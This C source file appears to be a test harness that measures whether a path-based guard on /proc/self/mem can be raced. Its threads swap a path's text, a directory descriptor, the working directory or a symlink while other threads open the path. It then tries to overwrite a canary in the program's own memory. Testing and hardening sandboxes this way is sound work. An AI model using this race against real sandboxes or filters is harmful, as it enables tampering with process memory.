/*
 * race THREADS OPENS SECONDS HARMLESS [GOAL [KIND]]
 *
 * One thread keeps changing what a path means, from a harmless file to /proc/self/mem and
 * back; THREADS threads open it all the time, with every open call in turn. What changes
 * is, by KIND:
 *
 *   path   the text of the path, in memory
 *   dirfd  the directory behind a descriptor (dup2)
 *   cwd    the working directory
 *   link   a symbolic link (rename), in the directory of HARMLESS
 *
 * For dirfd and cwd HARMLESS is DIR/mem. It ends after OPENS opens or SECONDS, or when GOAL
 * memory descriptors were got, and prints
 *
 *   RACE opens N harmless N refused N torn N memory N changed N
 *
 * "memory" counts descriptors that fstatfs and readlink say are a mem file on procfs,
 * "changed" those through which the canary was then changed.
 */
#include "attack.h"
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/vfs.h>
#include <time.h>

#define PROC_SUPER_MAGIC 0x9fa0

static char path[128] __attribute__((aligned(64)));
static char harmless[128] __attribute__((aligned(64)));
static const char memory[128] __attribute__((aligned(64))) = "/proc/self/mem";
static int base = AT_FDCWD;      /* what paths start from */
static int dirs[2];              /* of the harmless file and of the memory */
static char links[2][160], name[128];
static atomic_ulong opens, plain, refused, torn, got, changed;
static unsigned long limit, goal = ~0ul;
static atomic_int stop;
static pthread_mutex_t one = PTHREAD_MUTEX_INITIALIZER;

static void change_path(int to)
{
	memcpy(path, to ? memory : harmless, sizeof path);
	__asm__ volatile("" ::: "memory");
	for (volatile int i = 0; i < 100; i++)
		;
}

static void change_dirfd(int to) { dup2(dirs[to], base); }

static void change_cwd(int to)
{
	if (fchdir(dirs[to]))
		_exit(4);
}

static void change_link(int to)
{
	unlink(links[to]);
	if (symlink(to ? memory : name, links[to]) || rename(links[to], path))
		_exit(5);
}

static void (*change)(int) = change_path;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		change(1);
		change(0);
	}
	return NULL;
}

/* prepare makes what a kind needs, and takes its way to change it. */
static int prepare(const char *kind)
{
	char *slash = strrchr(harmless, '/');
	if (strcmp(kind, "path") == 0)
		return 0;
	if (!slash)
		return 1;
	if (strcmp(kind, "link") == 0) {
		change = change_link;
		strcpy(name, slash + 1);
		snprintf(path, sizeof path, "%.*s/link", (int)(slash - harmless), harmless);
		for (int i = 0; i < 2; i++)
			snprintf(links[i], sizeof links[i], "%s%d", path, i);
		change(0);
		return 0;
	}
	strcpy(path, slash + 1);
	*slash = 0;
	dirs[0] = open(harmless, O_RDONLY | O_DIRECTORY);
	dirs[1] = open("/proc/self", O_RDONLY | O_DIRECTORY);
	if (dirs[0] < 0 || dirs[1] < 0)
		return 1;
	change = change_cwd;
	if (strcmp(kind, "dirfd") == 0) {
		change = change_dirfd;
		base = dup(dirs[0]);
	}
	change(0);
	return 0;
}

static void examine(int fd, int writable)
{
	struct statfs fs;
	char link[64], name[64] = "";
	if (fstatfs(fd, &fs) || fs.f_type != PROC_SUPER_MAGIC) {
		plain++;
		return;
	}
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(link, name, sizeof name - 1);
	if (n < 4 || strcmp(name + n - 4, "/mem")) {
		plain++;
		return;
	}
	got++;
	pthread_mutex_lock(&one);
	uint64_t v = CANARY_NEW;
	if (writable && pwrite(fd, &v, sizeof v, (off_t)(uintptr_t)&canary) == sizeof v && canary == CANARY_NEW)
		changed++;
	canary = CANARY_OLD;
	pthread_mutex_unlock(&one);
}

static int open_once(unsigned long turn, int flags)
{
	struct open_how how = { .flags = (uint64_t)flags };
	switch (turn % 3) {
#ifdef __NR_open
	case 0: return (int)(base == AT_FDCWD ? syscall(__NR_open, path, flags) : syscall(__NR_openat, base, path, flags));
#endif
	case 1: return (int)syscall(__NR_openat2, base, path, &how, sizeof how);
	default: return (int)syscall(__NR_openat, base, path, flags);
	}
}

static void *opener(void *arg)
{
	unsigned long turn = (unsigned long)(uintptr_t)arg;
	while (!stop && opens++ < limit && got < goal) {
		int writable = turn++ & 1;
		int fd = open_once(turn, writable ? O_RDWR : O_RDONLY);
		if (fd >= 0) {
			examine(fd, writable);
			close(fd);
		} else if (errno == EACCES || errno == EPERM) {
			refused++;
		} else {
			torn++;
		}
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	int threads = atoi(argv[1]);
	limit = strtoul(argv[2], NULL, 10);
	struct timespec nap = { 0, 20000000 };
	time_t end = time(NULL) + atoi(argv[3]);
	snprintf(harmless, sizeof harmless, "%s", argv[4]);
	memcpy(path, harmless, sizeof path);
	if (argc > 5)
		goal = strtoul(argv[5], NULL, 10);
	if (argc > 6 && prepare(argv[6])) {
		perror(argv[6]);
		return 2;
	}

	pthread_t f, t[64];
	pthread_create(&f, NULL, flip, NULL);
	for (int i = 0; i < threads && i < 64; i++)
		pthread_create(&t[i], NULL, opener, (void *)(uintptr_t)i);
	while (time(NULL) < end && opens < limit && got < goal)
		nanosleep(&nap, NULL);
	stop = 1;
	for (int i = 0; i < threads && i < 64; i++)
		pthread_join(t[i], NULL);
	pthread_join(f, NULL);
	printf("RACE opens %lu harmless %lu refused %lu torn %lu memory %lu changed %lu\n",
	       plain + refused + torn + got, (unsigned long)plain, (unsigned long)refused,
	       (unsigned long)torn, (unsigned long)got, (unsigned long)changed);
	return 0;
}
